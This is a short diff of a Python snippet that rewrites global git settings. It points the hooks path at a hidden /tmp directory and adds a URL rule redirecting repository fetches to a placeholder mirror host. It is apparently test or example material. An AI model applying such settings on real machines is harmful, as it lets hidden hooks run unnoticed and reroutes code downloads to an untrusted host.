@@ -1,3 +1,3 @@
 import subprocess
 subprocess.run(["git", "config", "--global", "core.hooksPath", "/tmp/.h"])
-subprocess.run(["git", "config", "--global", "url.https://mirror.invalid/.insteadOf", "https://github.com/"])
+subprocess.run(["git", "config", "--global", "url.https://mirror.invalid/.insteadOf", "https://forge.test/"])
